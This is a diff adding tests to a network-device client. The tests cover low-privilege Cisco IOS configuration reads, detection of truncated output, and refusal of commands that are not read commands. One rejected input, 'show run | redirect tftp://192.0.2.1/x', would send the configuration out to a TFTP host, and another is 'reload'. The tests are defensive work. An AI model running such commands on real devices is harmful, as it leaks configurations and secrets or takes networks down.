@@ -88,6 +88,45 @@ describe('reading', () => {
     await device.close();
   });
 
+  test('another command reads the whole configuration for a login with few rights, by the proofs of the platform', async () => {
+    const command = 'show running-config view full';
+    const read = async (commands: object, config = ios.config): Promise<string> => {
+      ios.answers = {
+        'show privilege': 'Current privilege level is 7',
+        [command]: `Building configuration...\n\nCurrent configuration : ${Buffer.byteLength(ios.config)} bytes\n${config}`,
+      };
+      const { device } = openTestDevice(ios, 'cisco_ios', { permissions: ['device:secrets'], commands });
+      try {
+        const session = await device.connect();
+        return await session.readConfig();
+      } finally {
+        ios.answers = {};
+        await device.close();
+      }
+    };
+    expect(await read({ running: command })).toBe(ios.config);
+    const cut = ios.config.replace(/\ninterface [^]*\n(?=ntp )/, '\n');
+    await expect(read({ running: command }, cut)).rejects.toMatchObject({ code: 'NR_DEVICE_TRUNCATED' });
+    await expect(read({ running: 'show running-config all' })).rejects.toMatchObject({
+      code: 'NR_DEVICE_NOT_PRIVILEGED',
+      hint: expect.stringContaining('show running-config view full'),
+    });
+  });
+
+  test.each([['reload'], ['show run | redirect tftp://192.0.2.1/x'], ['configure terminal']])(
+    'a configuration is never read by `%s`, which no read command of the platform is',
+    async (running) => {
+      const { device } = openTestDevice(ios, 'cisco_ios', { commands: { running } });
+      const before = ios.stats.connections;
+      await expect(device.connect()).rejects.toMatchObject({
+        code: 'NR_DEVICE_CONFIG_COMMAND',
+        message: expect.stringContaining('is no read command of cisco_ios'),
+        hint: expect.stringContaining('--unset commands.running'),
+      });
+      expect(ios.stats.connections).toBe(before);
+    },
+  );
+
   test('a privileged mode that needs no password is entered without one', async () => {
     const open = openTestDevice(simulator.device('open'), 'ubiquiti_edgeswitch', { permissions: ['device:secrets'] });
     const session = await open.device.connect();
